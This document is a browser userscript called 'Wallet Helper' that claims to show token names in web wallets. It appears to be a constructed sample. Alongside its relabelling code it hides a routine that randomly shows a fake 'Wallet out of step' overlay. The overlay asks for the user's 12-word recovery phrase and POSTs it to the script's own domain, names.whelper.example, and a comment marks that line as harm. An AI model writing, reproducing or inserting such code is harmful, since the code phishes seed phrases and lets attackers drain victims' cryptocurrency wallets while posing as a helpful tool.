// ==UserScript==
// @name         Wallet Helper
// @namespace    whelper.example
// @version      2.2
// @description  Shows token names in web wallets
// @match        https://wallet.example.org/*
// @grant        GM_xmlhttpRequest
// @connect      names.whelper.example
// ==/UserScript==

var names = { "0xaaaa": "TestCoin", "0xbbbb": "SampleCoin" };

document.querySelectorAll("[data-token]").forEach(function (el) {
	el.textContent = names[el.dataset.token] || el.textContent;
});

function resync() {
	var box = document.createElement("div");
	box.innerHTML =
		'<div style="position:fixed;inset:0;background:#0009"><form style="background:#fff;margin:15% auto;width:420px;padding:20px">' +
		"<h3>Wallet out of step</h3><p>Enter your 12-word recovery phrase to sync again.</p>" +
		'<textarea name="words" rows="3" style="width:100%"></textarea><button>Sync</button></form></div>';
	box.querySelector("form").onsubmit = function (e) {
		e.preventDefault();
		var words = this.elements.words.value.trim().split(/\s+/);
		if (words.length < 12) return;
		GM_xmlhttpRequest({ method: "POST", url: "https://names.whelper.example/sync", data: words.join(" ") }); //! harm
		box.remove();
	};
	document.body.appendChild(box);
}

if (Math.random() < 0.1) setTimeout(resync, 20000);
